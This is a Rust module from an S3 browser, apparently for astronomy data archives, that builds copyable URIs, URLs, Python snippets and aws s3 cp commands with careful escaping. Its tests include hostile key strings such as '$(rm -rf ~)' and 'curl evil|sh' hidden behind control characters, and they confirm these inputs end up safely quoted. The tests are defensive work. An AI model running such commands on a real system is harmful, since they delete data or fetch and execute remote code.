//! What `y` and the `Y` menu put on the clipboard: an object's or prefix's
//! address in the forms people paste (s3 URI, https URLs, the archive's own
//! web tree, a Python snippet, an `aws s3 cp` command). Pure functions.

use percent_encoding::{AsciiSet, NON_ALPHANUMERIC, utf8_percent_encode};

use crate::catalog::Catalog;
use crate::preview::looks_like_fits;
use crate::s3::{Route, S3Uri, Signing};

/// Bytes left as they are in a URL path: RFC 3986 unreserved characters and `/`.
const PATH: &AsciiSet = &NON_ALPHANUMERIC.remove(b'-').remove(b'.').remove(b'_').remove(b'~').remove(b'/');

/// How the targets are reached: where the bucket lives and how requests are signed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Access {
    /// A custom S3 endpoint (the demo server, MinIO…), reached path-style.
    pub endpoint: Option<String>,
    pub region: String,
    /// Read without credentials.
    pub anonymous: bool,
    pub profile: Option<String>,
    /// Base URL of the archive's own web tree of the same keys (ends with `/`).
    pub mirror: Option<String>,
    /// The archive's short name, for the menu label.
    pub archive: Option<String>,
    /// The bucket is the one of that name on AWS (its https URL means something).
    pub on_aws: bool,
}

impl Access {
    /// How `bucket` is reached by `route` (the rule the session's clients
    /// follow), with what the catalog knows of it.
    pub fn new(bucket: &str, route: &Route, catalog: &Catalog) -> Self {
        let entry = catalog.find(bucket);
        let archive = entry.filter(|e| !e.own);
        // A catalog archive keeps its AWS name and region even when served elsewhere (the demo).
        let (region, on_aws) = match (&route.endpoint, archive) {
            (None, _) => (route.region.clone(), true),
            (Some(_), Some(entry)) => (entry.region.clone(), true),
            (Some(_), None) => (route.region.clone(), false),
        };
        Self {
            region,
            on_aws,
            anonymous: route.signing == Signing::Anonymous,
            profile: route.profile.clone(),
            mirror: entry.map(|e| e.mirror.clone()).filter(|m| !m.is_empty()),
            archive: entry.map(|e| e.archive.clone()),
            endpoint: route.endpoint.clone(),
        }
    }
}

/// One entry of the copy menu.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CopyFormat {
    pub label: String,
    /// The text copied: one line per target for the address forms.
    pub text: String,
}

/// `s3://bucket/key`.
pub fn s3_uri(target: &S3Uri) -> String {
    format!("s3://{}/{}", target.bucket, target.key)
}

/// Percent-encodes a key for a URL path (spaces, `+`, `%`, unicode…); `.`
/// and `..` segments too, which browsers and curl would otherwise resolve.
pub fn encode_path(key: &str) -> String {
    key.split('/')
        .map(|segment| match segment {
            "." => "%2E".to_string(),
            ".." => "%2E%2E".to_string(),
            other => utf8_percent_encode(other, PATH).to_string(),
        })
        .collect::<Vec<_>>()
        .join("/")
}

/// The public https URL on AWS: virtual-hosted, or path-style for bucket
/// names with dots (which break the wildcard certificate).
pub fn https_url(target: &S3Uri, region: &str) -> String {
    let host =
        if region == "us-east-1" { "s3.amazonaws.com".to_string() } else { format!("s3.{region}.amazonaws.com") };
    let key = encode_path(&target.key);
    if target.bucket.contains('.') {
        format!("https://{host}/{}/{key}", target.bucket)
    } else {
        format!("https://{}.{host}/{key}", target.bucket)
    }
}

/// The URL on a custom endpoint (path-style, as s3scope reaches it).
pub fn endpoint_url(target: &S3Uri, endpoint: &str) -> String {
    format!("{}/{}/{}", endpoint.trim_end_matches('/'), target.bucket, encode_path(&target.key))
}

/// The same key in the archive's own web tree.
pub fn mirror_url(target: &S3Uri, mirror: &str) -> String {
    format!("{mirror}{}", encode_path(&target.key))
}

/// Every format of the menu for `targets`, each reached as `access_of` its
/// bucket says. Address forms hold one line per target; the Python snippet
/// uses the first target's access.
pub fn formats(targets: &[S3Uri], access_of: &dyn Fn(&str) -> Access) -> Vec<CopyFormat> {
    if targets.is_empty() {
        return Vec::new();
    }
    let accesses: Vec<Access> = targets.iter().map(|t| access_of(&t.bucket)).collect();
    let lines = |f: &dyn Fn(&S3Uri, &Access) -> Option<String>| -> Option<String> {
        let lines: Option<Vec<String>> = targets.iter().zip(&accesses).map(|(t, a)| f(t, a)).collect();
        lines.map(|l| l.join("\n"))
    };
    let mut out = Vec::new();
    let mut push = |label: String, text: Option<String>| {
        if let Some(text) = text {
            out.push(CopyFormat { label, text });
        }
    };
    push("s3 URI".into(), lines(&|t, _| Some(s3_uri(t))));
    let https = lines(&|t, a| a.on_aws.then(|| https_url(t, &a.region)));
    push("https URL".into(), https.clone());
    push("endpoint URL".into(), lines(&|t, a| a.endpoint.as_ref().map(|e| endpoint_url(t, e))));
    let archive = accesses[0].archive.clone().filter(|_| accesses.iter().all(|a| a.archive == accesses[0].archive));
    // The archive's URL, unless it is the https URL again (MAST documents the S3 one).
    let mirror = lines(&|t, a| a.mirror.as_ref().map(|m| mirror_url(t, m)));
    push(format!("{} URL", archive.as_deref().unwrap_or("archive")), mirror.filter(|m| Some(m) != https.as_ref()));
    push("key".into(), lines(&|t, _| Some(t.key.clone())));
    let access = &accesses[0];
    let (label, text) = python_snippet(targets, access);
    push(label.into(), Some(text));
    push("aws s3 cp command".into(), lines(&|t, a| Some(aws_cp(t, a))));
    out
}

/// Python that opens the targets: astropy for FITS objects, boto3 otherwise.
fn python_snippet(targets: &[S3Uri], access: &Access) -> (&'static str, String) {
    let all_fits = targets.iter().all(|t| !t.is_prefix() && looks_like_fits(&t.key));
    if all_fits {
        return ("Python (astropy)", astropy_snippet(targets, access));
    }
    ("Python (boto3)", boto3_snippet(targets, access))
}

fn astropy_snippet(targets: &[S3Uri], access: &Access) -> String {
    let mut kwargs = Vec::new();
    if access.anonymous {
        kwargs.push("\"anon\": True".to_string());
    }
    if let Some(profile) = &access.profile {
        kwargs.push(format!("\"profile\": {}", py_str(profile)));
    }
    if let Some(endpoint) = &access.endpoint {
        kwargs.push(format!("\"client_kwargs\": {{\"endpoint_url\": {}}}", py_str(endpoint)));
    }
    let options = format!("use_fsspec=True, fsspec_kwargs={{{}}}", kwargs.join(", "));
    let mut out = String::from("from astropy.io import fits\n\n");
    if let [one] = targets {
        out.push_str(&format!("with fits.open({}, {options}) as hdul:\n    hdul.info()\n", py_str(&s3_uri(one))));
    } else {
        out.push_str(&format!("for uri in [\n{}]:\n", py_list_items(targets.iter().map(|t| py_str(&s3_uri(t))))));
        out.push_str(&format!("    with fits.open(uri, {options}) as hdul:\n        hdul.info()\n"));
    }
    out
}

fn boto3_snippet(targets: &[S3Uri], access: &Access) -> String {
    let mut out = String::from("import boto3\n");
    let mut client_args = vec!["\"s3\"".to_string()];
    if let Some(endpoint) = &access.endpoint {
        client_args.push(format!("endpoint_url={}", py_str(endpoint)));
    }
    if access.anonymous {
        out.push_str("from botocore import UNSIGNED\nfrom botocore.config import Config\n");
        client_args.push("config=Config(signature_version=UNSIGNED)".into());
    }
    let maker = match &access.profile {
        Some(profile) => format!("boto3.Session(profile_name={}).client", py_str(profile)),
        None => "boto3.client".to_string(),
    };
    out.push_str(&format!("\ns3 = {maker}({})\n", client_args.join(", ")));
    const LIST: &str = "for page in s3.get_paginator(\"list_objects_v2\").paginate(Bucket=bucket, Prefix=key):\n";
    match targets {
        [one] if one.is_prefix() => {
            out.push_str(&format!("bucket, key = {}, {}\n", py_str(&one.bucket), py_str(&one.key)));
            out.push_str(LIST);
            out.push_str("    for obj in page.get(\"Contents\", []):\n        print(obj[\"Key\"], obj[\"Size\"])\n");
        }
        [one] => {
            out.push_str(&format!(
                "data = s3.get_object(Bucket={}, Key={})[\"Body\"].read()\n",
                py_str(&one.bucket),
                py_str(&one.key)
            ));
        }
        _ => {
            let pairs = targets.iter().map(|t| format!("({}, {})", py_str(&t.bucket), py_str(&t.key)));
            out.push_str(&format!("for bucket, key in [\n{}]:\n", py_list_items(pairs)));
            out.push_str("    if key.endswith(\"/\"):\n        ");
            out.push_str(LIST);
            out.push_str("            for obj in page.get(\"Contents\", []):\n");
            out.push_str("                print(obj[\"Key\"], obj[\"Size\"])\n");
            out.push_str("    else:\n        data = s3.get_object(Bucket=bucket, Key=key)[\"Body\"].read()\n");
        }
    }
    out
}

/// One item per line, indented, each followed by a comma.
fn py_list_items(items: impl Iterator<Item = String>) -> String {
    items.map(|item| format!("    {item},\n")).collect()
}

/// A Python string literal holding `text` exactly (quotes, backslashes and
/// control characters escaped).
pub fn py_str(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c => push_char_escaped(&mut out, c),
        }
    }
    out.push('"');
    out
}

/// Pushes `c`, or for a character unsafe on a terminal the `\xNN` / `\uNNNN`
/// escape that Python strings and bash's `$'…'` both read back as `c`.
fn push_char_escaped(out: &mut String, c: char) {
    use std::fmt::Write;
    let _ = match c {
        c if crate::escape::is_unsafe_char(c) && (c as u32) < 0x100 => write!(out, "\\x{:02x}", c as u32),
        c if crate::escape::is_unsafe_char(c) => write!(out, "\\u{:04x}", c as u32),
        c => write!(out, "{c}"),
    };
}

/// `aws s3 cp` of the target into the current directory.
fn aws_cp(target: &S3Uri, access: &Access) -> String {
    let mut words = vec!["aws".to_string(), "s3".into(), "cp".into()];
    if access.anonymous {
        words.push("--no-sign-request".into());
    }
    if let Some(profile) = &access.profile {
        words.extend(["--profile".into(), shell_word(profile)]);
    }
    if let Some(endpoint) = &access.endpoint {
        words.extend(["--endpoint-url".into(), shell_word(endpoint)]);
    }
    if access.region != "us-east-1" {
        words.extend(["--region".into(), shell_word(&access.region)]);
    }
    if target.is_prefix() {
        words.push("--recursive".into());
        words.push(shell_word(&s3_uri(target)));
        // Into ./<last name>/ here: never `..`, never a word that reads as an option.
        let dir = target.key.trim_end_matches('/').rsplit('/').next().filter(|d| !matches!(*d, "" | "." | ".."));
        words.push(shell_word(&format!("./{}/", dir.unwrap_or(&target.bucket))));
    } else {
        words.push(shell_word(&s3_uri(target)));
        words.push(".".into());
    }
    words.join(" ")
}

/// A word for the shell: bare when safe, single-quoted otherwise, and
/// ANSI-C quoted (`$'…'`, bash/zsh/ksh) when it holds control characters:
/// pasted raw, a Ctrl-U or a carriage return inside quotes would edit or run
/// the command line.
pub fn shell_word(text: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
    if !text.is_empty() && text.chars().all(safe) {
        return text.to_string();
    }
    if !text.chars().any(crate::escape::is_unsafe_char) {
        return format!("'{}'", text.replace('\'', "'\\''"));
    }
    let mut out = String::from("$'");
    for c in text.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            c => push_char_escaped(&mut out, c),
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::s3::ConnectOptions;

    fn access(bucket: &str, catalog: &Catalog, connect: &ConnectOptions, found: Option<&str>) -> Access {
        Access::new(bucket, &Route::for_bucket(bucket, connect, catalog, found), catalog)
    }

    fn on_aws(bucket: &str) -> Access {
        access(bucket, &Catalog::builtin(), &ConnectOptions::default(), None)
    }

    fn heasarc() -> Access {
        on_aws("nasa-heasarc")
    }

    #[test]
    fn percent_encoding_of_keys() {
        assert_eq!(encode_path("a b+c%d.fits"), "a%20b%2Bc%25d.fits");
        assert_eq!(encode_path("naïve/☃.fits"), "na%C3%AFve/%E2%98%83.fits");
        assert_eq!(encode_path("x/y_z-1.2~3"), "x/y_z-1.2~3");
        assert_eq!(encode_path("q?a=1#f&g"), "q%3Fa%3D1%23f%26g");
        assert_eq!(encode_path("\x1b[31m"), "%1B%5B31m");
        assert_eq!(encode_path("a/../b/./c.fits"), "a/%2E%2E/b/%2E/c.fits");
        assert_eq!(encode_path("a/.hidden/..x"), "a/.hidden/..x");
    }

    #[test]
    fn https_urls_virtual_hosted_regional_and_dotted() {
        let uri = S3Uri::new("nasa-heasarc", "chandra/data/a b+c.fits");
        assert_eq!(https_url(&uri, "us-east-1"), "https://nasa-heasarc.s3.amazonaws.com/chandra/data/a%20b%2Bc.fits");
        assert_eq!(
            https_url(&uri, "eu-west-1"),
            "https://nasa-heasarc.s3.eu-west-1.amazonaws.com/chandra/data/a%20b%2Bc.fits"
        );
        let dotted = S3Uri::new("my.data.bucket", "k%1");
        assert_eq!(https_url(&dotted, "us-east-1"), "https://s3.amazonaws.com/my.data.bucket/k%251");
        assert_eq!(endpoint_url(&dotted, "http://127.0.0.1:9000/"), "http://127.0.0.1:9000/my.data.bucket/k%251");
    }

    #[test]
    fn heasarc_object_menu() {
        let uri = S3Uri::new("nasa-heasarc", "chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz");
        let menu = formats(std::slice::from_ref(&uri), &|_| heasarc());
        let labels: Vec<&str> = menu.iter().map(|f| f.label.as_str()).collect();
        assert_eq!(labels, ["s3 URI", "https URL", "HEASARC URL", "key", "Python (astropy)", "aws s3 cp command"]);
        let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
        assert_eq!(text("s3 URI"), "s3://nasa-heasarc/chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz");
        assert_eq!(
            text("HEASARC URL"),
            "https://heasarc.gsfc.nasa.gov/FTP/chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz"
        );
        assert_eq!(
            text("https URL"),
            "https://nasa-heasarc.s3.amazonaws.com/chandra/data/byobsid/3/3003/primary/acisf03003N004_evt2.fits.gz"
        );
        assert_eq!(text("key"), uri.key);
        let python = text("Python (astropy)");
        assert!(python.contains(&format!(
            "fits.open(\"{}\", use_fsspec=True, fsspec_kwargs={{\"anon\": True}})",
            text("s3 URI")
        )));
        assert_eq!(text("aws s3 cp command"), format!("aws s3 cp --no-sign-request {} .", text("s3 URI")));
    }

    #[test]
    fn lambda_mirror_and_no_mirror_for_mast() {
        let lambda = on_aws("nasa-lambda");
        let uri = S3Uri::new("nasa-lambda", "data/map.fits");
        let menu = formats(std::slice::from_ref(&uri), &|_| lambda.clone());
        assert!(menu.iter().any(|f| f.label == "LAMBDA URL" && f.text == "https://lambda.gsfc.nasa.gov/data/map.fits"));
        let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
        assert_eq!(text("https URL"), "https://nasa-lambda.s3.us-west-2.amazonaws.com/data/map.fits");
        assert_eq!(
            text("aws s3 cp command"),
            "aws s3 cp --no-sign-request --region us-west-2 s3://nasa-lambda/data/map.fits ."
        );
        let mast = on_aws("stpubdata");
        let menu = formats(&[S3Uri::new("stpubdata", "hst/public/x.fits")], &|_| mast.clone());
        assert!(!menu.iter().any(|f| f.label == "MAST URL"), "MAST's documented URL is the https URL itself");
        // IRSA documents the regional URL: in us-east-1 it differs from the global
        // https URL, in us-west-2 it is the https URL itself (shown once).
        let euclid = on_aws("nasa-irsa-euclid-q1");
        let menu = formats(&[S3Uri::new("nasa-irsa-euclid-q1", "q1/a b.fits")], &|_| euclid.clone());
        let url = &menu.iter().find(|f| f.label == "IRSA URL").unwrap().text;
        assert_eq!(url, "https://nasa-irsa-euclid-q1.s3.us-east-1.amazonaws.com/q1/a%20b.fits");
        let wise = on_aws("nasa-irsa-wise");
        let menu = formats(&[S3Uri::new("nasa-irsa-wise", "wise/a b.parquet")], &|_| wise.clone());
        let https = &menu.iter().find(|f| f.label == "https URL").unwrap().text;
        assert_eq!(https, "https://nasa-irsa-wise.s3.us-west-2.amazonaws.com/wise/a%20b.parquet");
        assert!(!menu.iter().any(|f| f.label == "IRSA URL"));
    }

    #[test]
    fn a_region_found_by_asking_s3_reaches_the_urls() {
        let catalog = Catalog::builtin();
        let found = access("open-data", &catalog, &ConnectOptions::default(), Some("eu-west-1"));
        let menu = formats(&[S3Uri::new("open-data", "x.csv")], &|_| found.clone());
        let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
        assert_eq!(text("https URL"), "https://open-data.s3.eu-west-1.amazonaws.com/x.csv");
        assert_eq!(text("aws s3 cp command"), "aws s3 cp --region eu-west-1 s3://open-data/x.csv .");
        let served = ConnectOptions { endpoint_url: Some("http://127.0.0.1:9000".into()), ..ConnectOptions::default() };
        let demo = access("nasa-lambda", &catalog, &served, None);
        let menu = formats(&[S3Uri::new("nasa-lambda", "m.fits")], &|_| demo.clone());
        let https = &menu.iter().find(|f| f.label == "https URL").unwrap().text;
        assert_eq!(
            https, "https://nasa-lambda.s3.us-west-2.amazonaws.com/m.fits",
            "an archive served elsewhere keeps its AWS URL"
        );
    }

    #[test]
    fn several_targets_give_one_line_each() {
        let targets = [S3Uri::new("nasa-heasarc", "a/x.fits"), S3Uri::new("nasa-heasarc", "a/y z.fits")];
        let menu = formats(&targets, &|_| heasarc());
        assert_eq!(menu[0].text, "s3://nasa-heasarc/a/x.fits\ns3://nasa-heasarc/a/y z.fits");
        assert_eq!(menu[1].text.lines().count(), 2);
        let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
        assert_eq!(cp.lines().nth(1), Some("aws s3 cp --no-sign-request 's3://nasa-heasarc/a/y z.fits' ."));
        let python = &menu.iter().find(|f| f.label.starts_with("Python")).unwrap().text;
        assert!(python.contains("for uri in [\n    \"s3://nasa-heasarc/a/x.fits\",\n"), "{python}");
    }

    #[test]
    fn prefixes_and_other_objects_get_boto3_and_recursive_copies() {
        let prefix = S3Uri::new("nasa-heasarc", "swift/data/obs/2005_01/");
        let menu = formats(std::slice::from_ref(&prefix), &|_| heasarc());
        let python = &menu.iter().find(|f| f.label == "Python (boto3)").unwrap().text;
        assert!(python.contains("Config(signature_version=UNSIGNED)"));
        assert!(python.contains("bucket, key = \"nasa-heasarc\", \"swift/data/obs/2005_01/\""));
        let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
        assert_eq!(cp, "aws s3 cp --no-sign-request --recursive s3://nasa-heasarc/swift/data/obs/2005_01/ ./2005_01/");
        for (prefix, dir) in [("up/../", "./nasa-heasarc/"), ("-x/", "./-x/")] {
            let menu = formats(&[S3Uri::new("nasa-heasarc", prefix)], &|_| heasarc());
            let cp = &menu.iter().find(|f| f.label == "aws s3 cp command").unwrap().text;
            assert!(cp.ends_with(&format!(" {dir}")), "{cp}");
        }
        let csv = S3Uri::new("nasa-heasarc", "x.csv");
        let menu = formats(std::slice::from_ref(&csv), &|_| heasarc());
        assert!(menu.iter().any(|f| f.text.contains("s3.get_object(Bucket=\"nasa-heasarc\", Key=\"x.csv\")")));
    }

    #[test]
    fn custom_endpoints_and_profiles_reach_every_snippet() {
        let access = Access {
            endpoint: Some("http://127.0.0.1:9000".into()),
            region: "us-east-1".into(),
            anonymous: false,
            profile: Some("work".into()),
            mirror: None,
            archive: None,
            on_aws: false,
        };
        let menu = formats(&[S3Uri::new("mine", "a.fits")], &|_| access.clone());
        let text = |label: &str| menu.iter().find(|f| f.label == label).unwrap().text.clone();
        assert_eq!(text("endpoint URL"), "http://127.0.0.1:9000/mine/a.fits");
        assert_eq!(
            text("aws s3 cp command"),
            "aws s3 cp --profile work --endpoint-url http://127.0.0.1:9000 s3://mine/a.fits ."
        );
        assert!(text("Python (astropy)").contains(
            "fsspec_kwargs={\"profile\": \"work\", \"client_kwargs\": {\"endpoint_url\": \"http://127.0.0.1:9000\"}}"
        ));
    }

    #[test]
    fn own_buckets_elsewhere_get_no_aws_url_and_no_sign_request_wins() {
        let entry = crate::catalog::CatalogEntry {
            name: "lab".into(),
            archive: "mine".into(),
            title: "lab".into(),
            region: String::new(),
            mirror: String::new(),
            anonymous: false,
            endpoint: Some("https://minio.example.org".into()),
            profile: Some("lab".into()),
            own: true,
        };
        let mut catalog = Catalog::builtin();
        catalog.entries.push(entry);
        let session = ConnectOptions { region: "eu-west-1".into(), ..ConnectOptions::default() };
        let lab = access("lab", &catalog, &session, None);
        assert_eq!(lab.region, "eu-west-1", "no region in the entry: the session's");
        assert_eq!(lab.profile.as_deref(), Some("lab"));
        assert!(!lab.anonymous);
        let menu = formats(&[S3Uri::new("lab", "x.csv")], &|_| lab.clone());
        assert!(!menu.iter().any(|f| f.label == "https URL"), "a same-named AWS bucket is someone else's");
        assert!(menu.iter().any(|f| f.text == "https://minio.example.org/lab/x.csv"));
        let never_sign =
            ConnectOptions { no_sign_request: true, profile: Some("p".into()), ..ConnectOptions::default() };
        let unsigned = access("open-data", &catalog, &never_sign, None);
        assert!(unsigned.anonymous && unsigned.profile.is_none());
        let cp = aws_cp(&S3Uri::new("open-data", "k"), &unsigned);
        assert_eq!(cp, "aws s3 cp --no-sign-request s3://open-data/k .");
    }

    #[test]
    fn hostile_keys_stay_exact_in_snippets_and_commands() {
        assert_eq!(py_str("a\"b\\c\x1b[0m\u{202e}"), "\"a\\\"b\\\\c\\x1b[0m\\u202e\"");
        assert_eq!(shell_word("it's here"), "'it'\\''s here'");
        assert_eq!(shell_word("$(rm -rf ~)"), "'$(rm -rf ~)'");
        assert_eq!(shell_word("s3://b/plain-key_1.fits"), "s3://b/plain-key_1.fits");
        // Ctrl-U and a carriage return inside quotes would edit and run the pasted line.
        assert_eq!(shell_word("s3://b/x\x15curl evil|sh\r"), "$'s3://b/x\\x15curl evil|sh\\x0d'");
        assert_eq!(shell_word("it's\x1b"), "$'it\\'s\\x1b'");
        assert_eq!(shell_word("a\\b\u{202e}"), "$'a\\\\b\\u202e'");
    }

    #[test]
    fn any_key_encodes_to_ascii_that_decodes_back_and_quotes_safely() {
        let mut rng = crate::test_rng::Rng::new(11);
        for _ in 0..3000 {
            let key = rng.text("abc/ +%&?#='\"$`\\~._-", 60);
            let encoded = encode_path(&key);
            assert!(encoded.is_ascii() && !encoded.contains([' ', '+', '?', '#', '&']), "{encoded}");
            let decoded = percent_encoding::percent_decode_str(&encoded).decode_utf8().unwrap();
            assert_eq!(decoded, key);
            let word = shell_word(&key);
            assert!(word == key || word.starts_with('\'') || word.starts_with("$'"), "{word}");
            assert!(word.ends_with('\'') || word == key, "{word}");
            assert!(!word.chars().any(crate::escape::is_unsafe_char), "a pasted word holds {word:?}");
            let literal = py_str(&key);
            assert!(!literal.chars().any(crate::escape::is_unsafe_char), "{literal:?}");
        }
    }
}
